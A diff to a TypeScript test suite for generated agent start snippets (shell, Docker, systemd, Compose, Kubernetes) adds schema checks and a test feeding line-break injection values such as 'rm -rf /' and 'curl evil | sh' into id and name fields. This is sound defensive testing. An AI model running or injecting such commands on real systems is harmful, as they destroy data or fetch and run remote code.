@@ -1,7 +1,8 @@
 /**
  * The agent start generators, checked by real peers where one runs here:
  * `bash -n` for shell text, `systemd-analyze verify` for the unit drop-in,
- * the `yaml` library's strict parse for Compose/Kubernetes, and `kubectl
+ * the `yaml` library's strict parse for Compose/Kubernetes, the published
+ * Kubernetes schemas (kubernetes-models) for the DaemonSet and Secret, and `kubectl
  * create secret --dry-run=client` for the Secret command the DaemonSet
  * comment gives. A peer that is not installed is reported as skipped, except
  * under CI=true, where a missing peer fails.
@@ -102,6 +103,16 @@ describe('agent start text', () => {
     }
   });
 
+  test('server text cannot break out of a comment: ids and names with line breaks stay on their comment line', () => {
+    for (const kind of AGENT_START_KINDS) {
+      const s = agentStartSnippet(kind, { ...BASE, configId: 'x\nrm -rf / #', configName: 'n\r\ncurl evil | sh\u2028' });
+      const lines = s.text.split(/\r?\n/);
+      assert.ok(!lines.some((l) => /^\s*(rm -rf|curl evil)/.test(l)), `${kind}: ${lines.filter((l) => /rm -rf|curl evil/.test(l)).join(' | ')}`);
+      if (kind === 'compose' || kind === 'kubernetes') strictYaml(s.text);
+      if (kind === 'shell' || kind === 'docker' || kind === 'systemd') bashN(s.text);
+    }
+  });
+
   test('shell: the URL is one quoted word even with odd ids; the /etc/default/telegraf trap is said', () => {
     const s = agentStartSnippet('shell', { ...BASE, configId: "a b'$c" });
     assert.ok(s.text.includes(`'https://controller.example:8888/api/configs/a%20b'\\''%24c/toml'`));
@@ -135,10 +146,17 @@ describe('agent start text', () => {
     }
   });
 
-  test('kubernetes: strict YAML DaemonSet with a secretKeyRef; the kubectl command builds the Secret with the right key and no newline', (t) => {
+  test('kubernetes: strict YAML DaemonSet with a secretKeyRef, valid against the published Kubernetes schema; the kubectl command builds the Secret with the right key and no newline', async (t) => {
+    // kubernetes-models: the Kubernetes OpenAPI schemas as JSON-schema validators (ESM only, hence the dynamic import).
+    const { DaemonSet } = await import('kubernetes-models/apps/v1');
+    const { Secret } = await import('kubernetes-models/v1');
     for (const { o, v } of VARIANTS) {
       const s = agentStartSnippet('kubernetes', o);
       const js = strictYaml(s.text) as any;
+      new DaemonSet(js).validate();
+      const broken = structuredClone(js);
+      delete broken.spec.selector;
+      assert.throws(() => new DaemonSet(broken).validate(), /selector/, 'the schema check can fail');
       assert.equal(js.apiVersion, 'apps/v1');
       assert.equal(js.kind, 'DaemonSet');
       assert.deepEqual(js.spec.selector.matchLabels, js.spec.template.metadata.labels, 'the selector matches the pod labels');
@@ -160,6 +178,7 @@ describe('agent start text', () => {
       assert.equal(r.status, 0, r.stderr);
       const secret = JSON.parse(r.stdout.slice(r.stdout.indexOf('{')));
       assert.equal(secret.kind, 'Secret');
+      new Secret(secret).validate();
       assert.equal(Buffer.from(secret.data.TELEGRAF_CONTROLLER_TOKEN, 'base64').toString('utf8'), 'tc-apiv1_unitTestValue123', 'no trailing newline in the value');
     } finally {
       rmSync(dir, { recursive: true, force: true });
